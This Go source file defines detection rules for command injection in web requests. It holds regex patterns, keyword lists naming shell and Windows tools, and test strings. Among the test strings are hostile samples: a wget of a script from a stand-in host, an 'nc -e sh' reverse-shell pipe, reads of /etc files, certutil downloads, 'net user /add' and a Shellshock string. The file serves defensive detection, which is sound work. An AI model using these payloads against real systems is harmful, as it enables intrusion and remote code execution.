package triage

const (
	sourceCommand = "https://owasp.org/www-community/attacks/Command_Injection"
	sourceLOLBAS  = "https://lolbas-project.github.io/"
	sourceGTFO    = "https://gtfobins.github.io/"
)

// Commands that texts seldom hold, and commands that are words too. Patterns put them after a separator
// or before an argument.
const (
	rareCommands  = `(?:wget|curl|bash|zsh|csh|ksh|tcsh|dash|busybox|ifconfig|netstat|whoami|uname|nslookup|chmod|chown|netcat|ncat|nc|python[23]?|perl|ruby|php|lua|gcc|telnet|tftp|ftpget|passwd|sudo|useradd|adduser|usermod|crontab|systemctl|printenv|getent|lsof|mkfifo|socat|xterm|nohup|base64|xxd|ping|traceroute|dig|hostname|tcpdump|iptables|mysqldump|ssh|scp|rsync|sed|awk|gawk|grep|egrep|xargs|uptime|ipconfig|systeminfo|tasklist|powershell|pwsh|iwr|cmd|certutil|bitsadmin|wmic|net1|reg|regedit|schtasks|cscript|wscript|mshta|rundll32|regsvr32|arp|dpkg|yum|apt|apt-get|aptitude|apk|pacman|docker|kubectl|openssl|gdb|strace|nmap|env|eval|phpinfo|pwd|ps|df|du|lsb_release|lscpu|killall|tac|cpio|unzip|gzip|rm|mv|cp|mkdir|rmdir|vi|vim|visudo|nano|od|rev|lsattr|chattr|md5sum|reboot|poweroff|npm|git|svn|cc|ldd|tty|stty|expr|chsh|chroot|ansible[a-z-]*|chef(?:-[a-z]+)?|ionice|setsid|unshare|capsh|flock|rpm|pip3?|easy_install|cargo|javac|mknod|lastlog|nft|id|ls|ll|cat|echo|printf|sh|perf|getcap|setcap|bcdboot|lsblk|bsdtar|rc)`
	wordCommands  = `(?:sleep\s+\d+|net|finger|node|java|make|time|timeout|date|who|w|more|less|head|tail|find|sort|uniq|cut|paste|sleep|dir|type|set|source|ver|vol|tree|ftp|mount|kill|diff|stat|touch|tar|ed|strings|yes|seq|tee|ln|dd|snap|gem|logger|last|ip|ss|route|nice|at|exec|export|history|aspell|shutdown|halt|nl)`
	commandPrefix = `\s*(?:[{(!]\s*)*(?:[a-z_]+=\S*\s+|\$[a-z_]\w{0,9}\s+)?(?:[/.\w?*\[\]-]*/)?`
	argument      = `(?:\s+(?:-{1,2}[a-z]|/[a-z?*\[]|\.{0,2}/|https?:|ftp:|\$|["'` + "`" + `]|\d+\.\d+\.\d|[a-z0-9_.-]+\.(?:sh|php|pl|py|exe|txt|bat|ps1|cmd|conf|log)\b|\*|[|;&>]))`
)

// commandLine is a command with options or paths.
const commandLine = `(?:^|[\s=:'"(]|/s?bin/)(?:wget|curl|bash|zsh|ksh|chmod|nc|ncat|netcat|python[23]?|perl|php|ping|uname|rm|tftp|nslookup|ssh|sudo|ruby|node|sed|awk|crontab|tar|killall|busybox|telnet|xargs|cat|ls|tail|head|sh|find|grep|egrep|dig|ps|tac|nl|od|more|less|ansible[a-z-]*|timeout|nice|ionice|env|time|gcc|vi|vim|cp|mv|touch|base64|nohup|sort|cut|rev|id|ll|perf|strace|getcap)(?:\s+(?:-{1,2}[a-z]|\+x\s|/(?:etc|bin|usr|var|tmp|dev|home|proc|root|opt)\b|\.\.?/|https?://|ftp://|["']/|curl\s|wget\s|\$\w|[a-z0-9_-]+\.(?:sh|php|pl|py)\b))`

// agentCommands are what a command in a user agent has and ordinary agents lack.
var agentCommands = []string{"wget ", "curl ", "cat ", "chmod ", "bash ", "nc ", "python -", "perl -", "php -", "ping ", "uname", "ls /", "ls -", "rm -", "echo ", "tail ",
	"head ", "/sh ", "find /", "grep ", "ftp ", "ssh ", "sudo ", "sed ", "awk ", "tar ", "xargs ", "timeout ", "nice ", "gcc ", "vi ", "cp ", "mv ", "touch ",
	"base64 ", "nohup ", "sort /", "id`", "whoami", "ifconfig", "ll /", "ll -", "env ", "tac ", "nl /", "od -", "more /", "less /", "cut -", "rev /", "busybox", "telnet ", "crontab ",
	"perf -", "strace ", "ansible"}

// commandRules look for commands of Unix and Windows.
var commandRules = []Rule{
	{
		ID: "cmd-chained", Class: RCE, Level: High, Field: InQuery | InName | InPath | InReferer | InShell,
		Words: []string{";", "|", "&", "`", "$(", "\n", "<(", ">("},
		Pattern: `(?:[;|` + "`" + `\n\r]|&&|&\s|\$\(|[<>]\(|&(?:amp;)?)` + commandPrefix + rareCommands + `(?:\s*$|\s*[;|&` + "`" + `)#><"']|` + argument + `|\s+\(|\s+[\w.-]+\s*(?:$|[;|&` + "`" + `)]))|` +
			`(?:[;|` + "`" + `\n\r]|&&|\$\(|[<>]\(|&\b)` + commandPrefix + wordCommands + `(?:\s*$|\s*[;|&` + "`" + `)#><]|` + argument + `|\s+\()|&\s+` + wordCommands + argument + `|^\s*&\s*(?:dir|ver|set|type|net)\s*$|[;|&]\s*(?:cmd|ipconfig|net1?|netstat|tasklist|schtasks|reg|bcdboot|bcdedit|sc|dir|systeminfo|whoami|shutdown|wmic|certutil)(?:\.exe)?/[a-z?]{1,8}(?:\s|$)|[;|]\s*at\s+\d{1,2}:\d\d\s`,
		Why:    "a shell command after a separator (; | & ` $( or a new line)",
		Source: sourceCommand,
		Hit: []string{
			"GET /a?h=127.0.0.1;id", "GET /a?h=x|cat%20/etc/hostname", "GET /a?h=%60whoami%60", "GET /a?h=$(uname%20-a)", "GET /a?h=x%0aid",
			"GET /a?h=x;wget+http://h.example/a.sh", "GET /a?h=x%26%26ls%20-la", "GET /a?h=;c''at$IFS/etc/hosts",
		},
		Miss: []string{"GET /a?q=a;b", "GET /a?q=base;+set+swarovski", "GET /a?q=salt+%26+pepper", "GET /a?q=this+|+that"},
	},
	{
		ID: "cmd-chained-agent", Class: RCE, Level: High, Field: InAgent,
		Words:   agentCommands,
		Pattern: `(?:[;|` + "`" + `\n]|&&|\$\()\s*(?:[/.\w?*\[\]-]*/)?` + rareCommands + `(?:\s*[|` + "`" + `]|\s+(?:-[a-z]+\s+\S|\+x|\.{0,2}/[a-z]|https?:))`,
		Why:     "a shell command in the user agent",
		Source:  sourceCommand,
		Hit:     []string{"agent: x; cat /etc/hosts", "agent: `id`|nc -e sh"},
		Miss:    []string{"agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; ping)"},
	},
	{
		ID: "cmd-line", Class: RCE, Level: High, Field: InAny&^InAgent | InShell,
		Words: []string{"wget", "curl", "bash", "cat ", "chmod", "nc ", "python", "perl ", "php -", "ping ", "ls ", "uname", "cmd", "net ", "powershell", "rm ", "echo ", "tail ", "head ", "sh ", "find ", "grep ", "ftp ", "tftp", "dig ",
			"nslookup", "ssh ", "sudo", "id ", "ruby ", "node ", "sed ", "awk ", "crontab", "ping", "ll ", "ps ", "tar ", "kill ", "busybox", "telnet", "env ", "time ", "xargs", "timeout", "nice ", "type ", "dir ", "more ", "less ", "ansible", "tac ", "nl ", "od ", "cp ", "mv ", "touch ", "gcc ", "vi ", "base64 ", "ip ", "nohup", "sort ", "cut ", "rev ", "date ", "exec "},
		Pattern: commandLine,
		Why:     "a command line with options or paths",
		Source:  sourceGTFO,
		Hit:     []string{"GET /a?x=wget+http://h.example/a", "GET /a?x=bash+-i", "GET /a?x=cat+/etc/hostname", "GET /a?x=ping+-c+3+h.example"},
		Miss:    []string{"GET /a?q=curl+and+divergence", "GET /a?q=bash+away+in+the+gym", "GET /a?q=cat+food", "GET /a?q=nc+8000+controller"},
	},
	{
		ID: "cmd-line-agent", Class: RCE, Level: High, Field: InAgent,
		Words:   agentCommands,
		Pattern: commandLine,
		Why:     "a command line in the user agent",
		Source:  sourceGTFO,
		Hit:     []string{"agent: cat /etc/hostname", "agent: bash -i"},
		Miss:    []string{"agent: curl/8.0", "agent: Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36"},
	},
	{
		ID: "cmd-binary", Class: RCE, Level: High, Field: InAny | InShell,
		Words:   []string{"bin/", "?", "*", "[", "/dev/", "/etc/", "/usr/"},
		Pattern: `(?:^|[^\w.-])/(?:usr/(?:local/)?)?s?bin/[a-z?*\[]|/[a-z?*\[\]]{0,6}[?*\[][a-z?*\[\]]{0,8}/[a-z?*\[\]]{1,12}(?:\s|$)|/dev/(?:tcp|udp)/|>\s*/dev/null|/(?:etc|usr|bin|dev)/[\w/]*[\[?*\\][^\s&]{0,20}|(?:^|\s)/[a-z]{0,6}\[[^\]\s]{1,8}\][a-z]`,
		Why:     "a program by its path, or by a glob that hides it (/bin/sh, /???/c?t)",
		Source:  sourceCommand,
		Hit:     []string{"GET /a?x=/bin/sh", "GET /a?x=/???/??t+/etc/hosts", "GET /a?x=id>/dev/null", "GET /a?x=/etc/pass[w]d"},
		Miss:    []string{"GET /cgi-bin/status", "GET /a?q=bin/a"},
	},
	{
		ID: "cmd-windows", Class: RCE, Level: High, Field: InAny | InShell,
		Words: []string{"cmd", "powershell", "pwsh", "certutil", "bitsadmin", "net user", "net localgroup", "net view", "wmic", "rundll32", "regsvr32", "mshta", "reg add", "reg query", "schtasks", "comspec", "cscript", "wscript", "tasklist", "systeminfo",
			"ipconfig", "invoke-", "iex", "downloadstring", "set /a", "for /f", "if /i", "if not", "if ", "if/i", "iwr ", "iwmi ", "for  ", "errorlevel", "start-process", "new-object", "regedit", "get-", "vssadmin", "wevtutil", "netsh", "%path", "%system", "dir c:", "type c:", "for /", "for %", "if exist", "if defined", "cmdext", " geq ", " gtr ", " equ ", " leq ", " lss ", " neq ", "qwinsta", "nltest", "dsquery", "whoami /"},
		Pattern: `\bcmd(?:\.exe)?["']?\s*/[ckrv]\b|powershell(?:\.exe)?["']?\s+(?:-|/|\()|\bpwsh\s+-|certutil(?:\.exe)?\s+[-/]|bitsadmin\s+/|\bnet1?\s+(?:user|localgroup|view|use|group|share|start|stop)\b|\bwmic\s+\w|rundll32(?:\.exe)?[\s,]|regsvr32\s|mshta\s+\w|\breg(?:\.exe)?\s+(?:add|query|save|export|delete)\b|\bregedit\s+/|schtasks\s+/|%comspec%|[cw]script(?:\.exe)?\s+[/\w.]|tasklist\s*[/|&]|systeminfo\s*[|&>]|ipconfig\s*[/|&]|invoke-(?:expression|webrequest|restmethod|command|mimikatz|wmi)|\biex\s*[($"']|downloadstring\s*\(|\bset\s+/a\s|\bfor\s+/[fldr]\s|\bfor\s+%|\bif/i\s|\bif\s+/i\s+|\bif\s*/i\s|\bif\s+(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\s+\S|\bif\s+(?:/i\s+)?(?:not\s+)?(?:/i\s+)?\S{1,60}\s*(?:==|\s(?:geq|gtr|equ|leq|lss|neq)\s)|\bfor\s+%%?\w+\s+in\s*\(|\biw(?:r|mi)\s+(?:-|http)|start-process\b|new-object\s+\w|\bget-(?:process|content|childitem|item|wmiobject|service|netip)|vssadmin\s|wevtutil\s|netsh\s+\w|%(?:path|system(?:root|drive)|windir|programfiles|temp|os)\b[:%]|\b(?:dir|type|del|copy)\s+[a-z]:\\|qwinsta\b|nltest\s+/|dsquery\s|whoami\s+/`,
		Why:     "a command of Windows",
		Source:  sourceLOLBAS,
		Hit:     []string{"GET /a?x=cmd.exe+/c+dir", "GET /a?x=powershell+-enc+AAAA", "GET /a?x=net+user+x+/add", "GET /a?x=certutil+-urlcache+-f+http://h.example/a"},
		Miss:    []string{"GET /a?q=net+users+of+fishing", "GET /a?q=powershell+course", "GET /a?q=if+not+now"},
	},
	{
		ID: "cmd-bare", Class: RCE, Level: Medium, Field: InQuery | InShell,
		Words:   []string{"whoami", "uname", "ifconfig", "ipconfig", "netstat", "systeminfo", "tasklist", "phpinfo", "printenv", "/bin/"},
		Pattern: `^\s*(?:whoami|uname(?:\s-\w+)?|ifconfig|ipconfig(?:\s*/all)?|netstat(?:\s-\w+)?|systeminfo|tasklist|printenv|phpinfo(?:\(\))?;?)\s*$|^\s*(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv)\s*[;|&]`,
		Why:     "the value is a command",
		Source:  "https://attack.mitre.org/techniques/T1505/003/",
		Hit:     []string{"GET /a.php?x=whoami", "GET /a.php?x=uname+-a"},
		Miss:    []string{"GET /a?q=whoami+meaning"},
	},
	{
		ID: "cmd-fetch", Class: RCE, Level: High, Field: InQuery | InPath | InShell,
		Words:   []string{"ping", "wget", "curl", "nslookup", "dig ", "telnet", "traceroute", "host "},
		Pattern: `(?:^|[;|&=\s(])(?:ping|wget|curl|nslookup|dig|telnet|traceroute)\s+(?:-\S+\s+)*(?:localhost\b|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d|[a-z0-9_-]+\.(?:[a-z0-9-]+\.)*[a-z]{2,12}(?:[/:\s]|$))`,
		Why:     "a command that reaches out to a host",
		Source:  sourceGTFO,
		Hit:     []string{"GET /a?x=ping+192.0.2.1", "GET /a?x=w''get+h.example/a", "GET /a?x='c'url+localhost"},
		Miss:    []string{"GET /a?q=curl+and+divergence", "GET /a?q=ping+pong"},
	},
	{
		ID: "cmd-agent", Class: RCE, Level: Medium, Field: InAgent | InReferer,
		Words:   []string{"ifconfig", "whoami", "ansible", "chef", "visudo", "strace", "nohup", "time ", "perf ", "set -o", "cscli", "uname", "netstat", "crontab", "history", "lsof", "printenv", "getent", ";env", ";set", ";ls", ";pwd", ";ps", ";id", "|id", "|env", "; id", "; env", "&&$"},
		Pattern: `^["';|&\s]*(?:code=)?(?:(?:time|nohup|strace|sudo|nice|exec)\s+)?(?:ifconfig|whoami|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|visudo|strace|nohup|cscli|uname|netstat|crontab|history|lsof|printenv|perf|getent)(?:\s+[a-z\d.:/-]+){0,6}["'\s]*$|^["';|&\s]*set\s+-o\s|^[;|&]\s*(?:env|set|ls|pwd|ps|id)\s*$|^\w=\w{2,8}(?:&&|;)\s*\$\w`,
		Why:     "the agent or referrer is a command",
		Source:  sourceCommand,
		Hit:     []string{"agent: time ifconfig", "agent: ;env", "agent: ansible all -m ping", "referer: ;id"},
		Miss:    []string{"agent: curl/8.0", "referer: https://h.example/?hl=id"},
	},
	{
		ID: "cmd-sqlite", Class: RCE, Level: High, Field: InQuery | InPath,
		Words:   []string{";.", "\n.", `\n.`, "; ."},
		Pattern: `(?:;|\n|\\n)\s*(?:\\n)?\.\s?(?:shell|system|sh|databases|tables|dump|read|import|open|once|output|load)\b`,
		Why:     "a command of the SQLite shell after a separator",
		Source:  "https://www.sqlite.org/cli.html",
		Hit:     []string{"GET /a?x=;%0a.shell+id", "GET /a?x=1;.databases"},
		Miss:    []string{"GET /a?q=;.5"},
	},
	{
		ID: "cmd-shellshock", Class: RCE, Level: High, Field: InAny,
		Words:   []string{"()"},
		Pattern: `\(\)\s*\{`,
		Why:     "Shellshock: a function definition for bash (CVE-2014-6271)",
		Source:  "https://nvd.nist.gov/vuln/detail/CVE-2014-6271", Product: "GNU bash", CVE: "CVE-2014-6271",
		Hit:  []string{"agent: () { :; }; echo x", "GET /cgi-bin/a?x=()%20%7b%20x;%7d"},
		Miss: []string{"GET /a?q=f()"},
	},
	{
		ID: "cmd-shell-syntax", Class: RCE, Level: Medium, Last: true, Field: InAny,
		Words:   []string{"ifs", "$(", "${", "2>", "$'", "{", "`", "<<<", "$((", "$@", "$*", "alias ", "$shell", "$[", ">(", "<("},
		Pattern: `\$\{?ifs\b|\$\([^)]{1,200}\)|2>&1|\$'[^']{1,80}'|(?:^|[;|&=` + "`" + `\s])\{,?[a-z./?*_#-][^,{}\s"':]*(?:,[^,{}\s"':]*)+\}|\{,[a-z./][^,{}\s"':]{1,30}\}|` + "`[a-z/.][^`]{0,120}`" + `|<<<|\$\(\(|\balias\s+(?:[+-]\w\+?\s+)?\w+=|\$(?:shell|bash|home|path|pwd|user)\b|\$\[[\d+*/\s-]*\]|[<>]\([a-z]|\$\{[a-z_]{1,20}(?::|%|#|/|//|,,|\^)[^}]{1,40}\}|\$\{!?[a-z_@*]{1,12}[\[@*]`,
		Why:     "syntax of a Unix shell (${IFS}, $(…), `…`, {a,b})",
		Source:  sourceCommand,
		Hit:     []string{"GET /a?x=a$%7bIFS%7db", "GET /a?x=$(x)", "GET /a?x=%7bid,-a%7d", "GET /a?x=%60x%60"},
		Miss:    []string{"GET /a?q=$5", "GET /a?q=%7b%22a%22:1,%22b%22:2%7d"},
	},
}
